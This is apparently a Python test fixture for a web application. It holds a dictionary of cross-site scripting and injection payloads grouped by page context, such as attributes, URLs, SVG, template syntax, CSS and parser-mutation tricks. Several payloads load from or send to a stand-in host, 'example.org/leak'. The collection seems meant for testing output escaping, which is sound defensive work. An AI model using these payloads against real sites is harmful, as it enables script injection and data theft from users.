"""Attacks by kind, each made for another place of a page: what an app, a user or a judge may write.

Whichever runs sets ``window.pwned``; whichever loads something asks example.org.
"""

OUT = "https://example.org/leak"
PWNED = "window.pwned=1"
IMG = f"<img src=x onerror={PWNED}>"
IMAGE = f"&lt;img src=x onerror={PWNED}"
ATTACKS = {
    "script": (
        f"<script>{PWNED}</script>",
        f"<ScRiPt src={OUT}.js></sCrIpT>",
        f"<script type=module>{PWNED}</script>",
        f"<script\n>{PWNED}</script\n>",
    ),
    "attribute": (
        f'" onmouseover="{PWNED}" onfocus="{PWNED}" autofocus tabindex="1" x="',
        f"' onmouseover='{PWNED}' onfocus='{PWNED}' autofocus tabindex='1' x='",
        f"` onmouseover=`{PWNED}` x=`",
        f"x onmouseover={PWNED} onfocus={PWNED} autofocus",
        f'"><img src=x onerror="{PWNED}">',
        f"'><body onpageshow={PWNED}>",
    ),
    "handler": (
        f"<img src=x onerror={PWNED}>",
        f"<details open ontoggle={PWNED}><summary>x</summary></details>",
        f"<input autofocus onfocus={PWNED}>",
        f"<video><source onerror={PWNED}></video>",
        f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={PWNED}>",
    ),
    "url": (
        f"javascript:{PWNED}",
        f"JaVaScRiPt\n:{PWNED}//",
        f"data:text/html,<script>{PWNED}</script>",
        f"//example.org/leak?{PWNED}",
        f"{OUT}?a=1&b=2#case=1",
        "#case=1&q=</script>",
    ),
    "link": (
        f"<a href='javascript:{PWNED}'>click</a>",
        f"<form action='{OUT}'><button id=cases name=body>x</button></form>",
        f"<base href='{OUT}/'>",
        f"<meta http-equiv=refresh content='0;url={OUT}'>",
        f"<iframe srcdoc='<script>parent.{PWNED}</script>'></iframe>",
        f"<object data='{OUT}'></object><embed src='{OUT}'>",
    ),
    "template": (
        "{{ 7 * 7 }}{% raw %}{# x #}",
        "{{ ''.__class__.__mro__ }}{{ page }}{% endblock %}",
        f"${{{PWNED}}}#{{{PWNED}}}<%= {PWNED}%>",
        f"{{{{constructor.constructor('{PWNED}')()}}}}",
        "%s %(name)s {0} {name!r} $& $1 $` \\1 \\g<0>",
    ),
    "css": (
        "</style><style>body{display:none}</style>",
        f"red;background:url({OUT}.png);x:expression({PWNED})",
        f"<link rel=stylesheet href={OUT}.css>",
        f"}}</style>@import url({OUT}.css);*{{display:none}}",
        f"<b style='position:fixed;inset:0;background:url({OUT})'>x</b>",
    ),
    "closing": (
        f"</script><script>{PWNED}</script>",
        "<!--<script>",
        f"--><script>{PWNED}</script>",
        f"--!><img src=x onerror={PWNED}>",
        f"]]><script>{PWNED}</script><![CDATA[",
        "</title></textarea></pre></svg></template></noscript></table></select></html>",
        "<plaintext>",
    ),
    "svg": (
        f"<svg onload={PWNED}></svg>",
        f"<svg><animate onbegin={PWNED} attributeName=x dur=1s></svg>",
        f"<svg><a xlink:href='javascript:{PWNED}'><text y=20>x</text></a></svg>",
        f"</text></svg><svg><use href='data:image/svg+xml,<svg onload={PWNED}>'></svg>",
        f"<math><maction actiontype=statusline xlink:href='javascript:{PWNED}'>x</maction></math>",
        f"<svg><script href='data:text/javascript,{PWNED}'></script></svg>",
    ),
    "mutation": (
        f'<noscript><p title="</noscript><img src=x onerror={PWNED}>">',
        f'<svg></p><style><a id="</style><img src=x onerror={PWNED}>">',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}&gt;">',
        f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{IMG}">',
        f"&lt;img src=x onerror={PWNED}&gt;&#60;script&#62;{PWNED}&#60;/script&#62;",
        f"\\u003cimg src=x onerror={PWNED}\\u003e\\x3cscript\\x3e",
        f"<select><template><img src=x onerror={PWNED}></template></select>",
    ),
    "bidi": ("\u202egnp.exe", "\u2066\u2067\u2068abc", "\u200e\u200f\u061c\u200b\ufeff", "עברית"),
    "separator": (
        f"\u2028{PWNED}\u2029",
        f"*/{PWNED}/*",
        f'\\";{PWNED}//',
        f"\\';{PWNED}//",
        f"\n;{PWNED}//",
        "\\u0000\\",
    ),
    "control": ("\0", "\0\0\\\0", "\x08\x0b\x0c\x1b[31m", "\r\r\n", "\ufffe\uffff", "\x7f\x85"),
    "surrogate": ("\ud800", "\udc00\ud800", "\udfff<script>", "\U0001f40d\ud83d", "\U0010ffff"),
    "name": ("__proto__", "constructor", "toString", "hasOwnProperty", "length"),
    "percent": ("%E0%A4%A", "%00%0d%0a", "a&b=c;d:e,f", "%u2028", "+ +", "#?/\\"),
    "long": ("W" * 5_000, "<" * 2_000, "&" * 1_000 + ";", "\u0301" * 500, "\t" * 400),
}  # fmt: skip
